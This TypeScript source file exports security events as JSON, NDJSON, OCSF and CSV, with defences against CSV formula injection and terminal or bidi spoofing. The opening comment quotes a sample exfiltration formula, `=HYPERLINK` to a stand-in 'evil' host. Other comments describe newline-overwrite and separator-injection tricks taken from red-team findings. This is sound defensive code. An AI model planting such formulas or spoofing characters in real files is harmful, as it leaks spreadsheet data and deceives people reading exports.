/**
 * Encodings of events for export: JSON (one array), NDJSON (one event per line) and CSV.
 * CSV is what admins open in Excel, so it defends against formula injection: a file name such as
 * `=HYPERLINK("http://evil/?"&A1,"click")` must stay text when the sheet is opened.
 */
import { inertKeepLines } from './inert.js';
import { EVENT_FIELDS } from './schema.js';

/** `ocsf`: NDJSON of OCSF Data Security Findings, each event mapped by the caller's `toRecord` (collector/alerts/ocsf.ts). */
export type ExportFormat = 'json' | 'ndjson' | 'csv' | 'ocsf';
export const EXPORT_FORMATS: readonly ExportFormat[] = ['json', 'ndjson', 'csv', 'ocsf'];

export const CONTENT_TYPES: Record<ExportFormat, string> = {
  json: 'application/json; charset=utf-8',
  ndjson: 'application/x-ndjson; charset=utf-8',
  csv: 'text/csv; charset=utf-8',
  ocsf: 'application/x-ndjson; charset=utf-8',
};

/**
 * Columns of the CSV export: every event field, then when the collector received it and, for an event
 * whose own time was implausible (stored at its arrival), the time the device claimed (empty otherwise),
 * then from which address and with which ingest token (its fingerprint) it arrived (empty for events
 * stored before the collector kept them).
 */
export const CSV_COLUMNS: readonly string[] = [...EVENT_FIELDS, 'receivedAt', 'claimedTime', 'receivedFrom', 'ingestTokenId'];

/** Characters that make a spreadsheet treat a cell as a formula (OWASP "CSV injection"). */
// The OWASP list, also behind blanks and invisible characters a spreadsheet may skip, and in the
// full-width forms a Japanese IME types (＝ ＋ － ＠): an apostrophe before text costs nothing.
const FORMULA_START = /^[\s\u00a0\u200b-\u200f\u2060\u3000\ufeff]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/**
 * One CSV cell: null → empty; a leading formula character gets an apostrophe so the cell stays text;
 * then RFC 4180 quoting when the value holds a comma, quote, CR or LF, or a semicolon or tab (other
 * spreadsheets' separators).
 */
export function csvCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  let s = typeof value === 'string' ? value : String(value);
  // Numbers we produce ourselves (size, rule, v) are never negative, so only strings need the guard.
  if (typeof value === 'string' && FORMULA_START.test(s)) s = `'${s}`;
  // Terminal escapes, C1 controls and bidi overrides are shown as [U+XXXX] (a CSV is often read with cat);
  // so is a CR that does not start a CRLF: on a terminal it returns to the start of the line and what
  // follows it overwrites the row, so a file name 「a.docx<CR>2026-12-01…,hanako…」 showed another
  // user's row over its own (red team coll7 F14). A line break (LF, CRLF) stays: it is a new line.
  s = inertKeepLines(s).replace(/\r(?!\n)/g, '[U+000D]');
  // Quoted also for a semicolon or a tab: Excel splits a CSV at `;` where that is the locale's list
  // separator (most of Europe) and LibreOffice at whichever of tab, comma and semicolon its import
  // dialog ticks, so `a;=1+1` or `a<TAB>=1+1` unquoted became a cell `=1+1`, a formula (red team coll7 F5).
  if (/[",;\t\r\n]/.test(s)) s = `"${s.replace(/"/g, '""')}"`;
  return s;
}

export function csvRow(values: readonly unknown[]): string {
  return values.map(csvCell).join(',') + '\r\n';
}

export function csvHeader(columns: readonly string[] = CSV_COLUMNS): string {
  return csvRow(columns);
}

export function csvLine(event: Record<string, unknown>, columns: readonly string[] = CSV_COLUMNS): string {
  return csvRow(columns.map((c) => event[c]));
}

/** A UTF-8 byte-order mark: Excel needs it to read Japanese file names in a CSV as UTF-8. */
export const CSV_BOM = '\uFEFF';

export function toCsv(events: readonly Record<string, unknown>[], opts: { bom?: boolean } = {}): string {
  return (opts.bom === false ? '' : CSV_BOM) + csvHeader() + events.map((e) => csvLine(e)).join('');
}

/**
 * JSON.stringify escapes C0 controls but not C1 ones (U+0085 and U+2028/U+2029 split lines for some
 * readers; U+009B is a terminal's CSI) nor bidi controls (U+202E shows `evil‮gnp.exe` as evilexe.png):
 * DEL and the characters of zero width too (two names that differ by one would look the same): all
 * escaped, so one event is one line for every reader and a terminal shows a sender's name as it is.
 * The same JSON value either way. (`upload-guard scan --json` writes its rows with it too.)
 */
const UNSAFE_IN_JSON = /[\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060\u2066-\u2069\ufeff]/g;
export const safeJson = (value: unknown): string =>
  JSON.stringify(value).replace(UNSAFE_IN_JSON, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

export function ndjsonLine(event: unknown): string {
  return safeJson(event) + '\n';
}

export function toNdjson(events: readonly unknown[]): string {
  return events.map(ndjsonLine).join('');
}

export function toJson(events: readonly unknown[]): string {
  return safeJson(events);
}

export function encodeEvents(events: readonly Record<string, unknown>[], format: ExportFormat, toRecord: (e: never) => unknown = (e) => e): string {
  switch (format) {
    case 'ocsf':
      return toNdjson(events.map((e) => toRecord(e as never)));
    case 'json':
      return toJson(events);
    case 'ndjson':
      return toNdjson(events);
    case 'csv':
      return toCsv(events);
  }
}

/**
 * Encodes an export that arrives page by page (the collector's streamed export, `upload-guard pull`):
 * `start()`, then `page()` for each page of events, then `end()`. Memory stays one page.
 */
export class ExportEncoder {
  /** Events encoded so far. */
  count = 0;

  /** `toRecord` maps each event for the `ocsf` format (the other formats write events as they are). */
  constructor(
    readonly format: ExportFormat,
    private readonly toRecord: (e: never) => unknown = (e) => e,
  ) {}

  start(): string {
    return this.format === 'csv' ? CSV_BOM + csvHeader() : this.format === 'json' ? '[' : '';
  }

  page(events: readonly Record<string, unknown>[]): string {
    let chunk = '';
    for (const e of events) {
      if (this.format === 'csv') chunk += csvLine(e);
      else if (this.format === 'ndjson') chunk += ndjsonLine(e);
      else if (this.format === 'ocsf') chunk += ndjsonLine(this.toRecord(e as never));
      else chunk += (this.count === 0 ? '' : ',') + safeJson(e); // as ndjson: C1 and bidi controls escaped (red team G9: raw in json only)
      this.count++;
    }
    return chunk;
  }

  end(): string {
    return this.format === 'json' ? ']' : '';
  }
}
